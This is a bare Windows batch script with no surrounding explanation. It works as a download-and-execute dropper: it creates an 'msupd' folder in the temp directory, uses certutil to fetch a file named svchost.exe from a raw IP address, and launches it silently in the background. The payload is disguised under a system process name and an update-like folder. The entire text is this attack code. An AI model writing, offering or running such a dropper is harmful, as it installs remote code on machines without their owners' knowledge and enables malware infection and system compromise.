@echo off
set D=%TEMP%\msupd
mkdir "%D%" 2>nul
certutil -urlcache -split -f http://198.51.100.71/w/svchost.exe "%D%\svchost.exe" >nul
start "" /b "%D%\svchost.exe"
exit /b 0
